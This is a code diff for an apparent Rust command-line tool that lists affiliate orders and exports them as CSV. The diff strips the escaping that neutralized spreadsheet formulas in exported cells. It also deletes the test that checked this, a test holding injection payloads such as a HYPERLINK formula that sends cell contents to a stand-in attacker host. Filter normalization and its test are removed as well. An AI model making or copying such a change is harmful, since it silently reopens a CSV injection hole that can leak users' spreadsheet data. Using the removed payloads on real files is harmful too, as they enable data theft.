@@ -31,7 +31,6 @@ const COLUMNS: [&str; 13] = [
 /// Reads orders back.
 pub(crate) async fn run(args: OrdersArgs) -> Result<(), Failure> {
     let filters = filters(&args);
-    let filters: Vec<(&str, &str)> = filters.iter().map(|(name, value)| (*name, value.as_str())).collect();
     if args.order_id.is_some() && !filters.is_empty() {
         return Err(Failure::new("an order's id stands alone: it needs no --click, --status or other filter"));
     }
@@ -76,17 +75,16 @@ fn one(args: &OrdersArgs, answer: &Value) -> Result<(), Failure> {
     Ok(())
 }
 
-fn filters(args: &OrdersArgs) -> Vec<(&'static str, String)> {
-    let word = |text: &Option<String>| text.as_deref().map(|text| text.trim().to_ascii_lowercase());
+fn filters(args: &OrdersArgs) -> Vec<(&'static str, &str)> {
     let filters = [
-        ("click_id", args.click.clone()),
-        ("status", word(&args.status)),
-        ("delivery", word(&args.delivery)),
-        ("account", args.account.clone()),
-        ("network_order_id", args.network_order_id.clone()),
-        ("phone", args.phone.as_deref().map(layout::phone)),
+        ("click_id", &args.click),
+        ("status", &args.status),
+        ("delivery", &args.delivery),
+        ("account", &args.account),
+        ("network_order_id", &args.network_order_id),
+        ("phone", &args.phone),
     ];
-    filters.into_iter().filter_map(|(name, value)| Some((name, value?))).collect()
+    filters.into_iter().filter_map(|(name, value)| Some((name, value.as_deref()?))).collect()
 }
 
 /// Orders page by page until there are `limit`, and the cursor of what follows.
@@ -199,7 +197,7 @@ fn csv(orders: &[OrderAnswer]) -> Result<String, Failure> {
             text(&order.payout),
             text(&order.currency),
         ];
-        writer.write_record(row.iter().map(|text| output::cell(text))).map_err(|error| failed(&error))?;
+        writer.write_record(&row).map_err(|error| failed(&error))?;
     }
     let bytes = writer.into_inner().map_err(|error| failed(&error))?;
     String::from_utf8(bytes).map_err(|error| failed(&error))
@@ -262,39 +260,6 @@ order                       created (UTC)        offer        account  network's
 01kb2h8z40x0000000000000c1  2026-11-22 10:00:00  slim-tea-pl  main     812001        delivered  cancel  duplicate (7)  12.50 USD
 01kb2h8z40x0000000000000c1  2026-11-22 10:00:00  slim-tea-pl  main                   delivered  cancel                 12.50 USD"
         );
-    }
-
-    #[test]
-    fn filters_are_read_as_people_write_them() {
-        use crate::args::{Cli, Command};
-        use clap::Parser as _;
-        for (line, expected) in [
-            (&["--phone", "+48 500 100 200"][..], vec![("phone", "+48500100200")]),
-            (&["--phone", "+48 (500) 100-200"], vec![("phone", "+48500100200")]),
-            (&["--phone", "00 48 500.100.200"], vec![("phone", "+48500100200")]),
-            (&["--status", "Wait", "--account", "main"], vec![("status", "wait"), ("account", "main")]),
-            (&["--delivery", " QUEUED"], vec![("delivery", "queued")]),
-            (&["--click", "-1+1"], vec![("click_id", "-1+1")]),
-            (&["--network-order-id", "-7", "--account", "main"], vec![("account", "main"), ("network_order_id", "-7")]),
-        ] {
-            let cli = Cli::try_parse_from(["leadrelay", "orders"].iter().chain(line)).unwrap();
-            let Command::Orders(args) = cli.command else { unreachable!("`orders` is parsed as such") };
-            let expected: Vec<_> = expected.into_iter().map(|(name, value)| (name, value.to_owned())).collect();
-            assert_eq!(filters(&args), expected);
-        }
-    }
-
-    #[test]
-    fn what_begins_like_a_formula_is_no_formula_in_a_csv() {
-        let mut order = order();
-        order.click_id = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".to_owned());
-        order.network_order_id = Some("=1+880134".to_owned());
-        order.raw_status = Some("@SUM(A1)".to_owned());
-        let csv = csv(&[order]).unwrap();
-        let mut reader = csv::Reader::from_reader(csv.as_bytes());
-        let row = reader.records().next().unwrap().unwrap();
-        assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t'])), "{csv}");
-        assert_eq!((row.get(5), row.get(11)), (Some("'=1+880134"), Some("12.50")));
     }
 
     #[test]
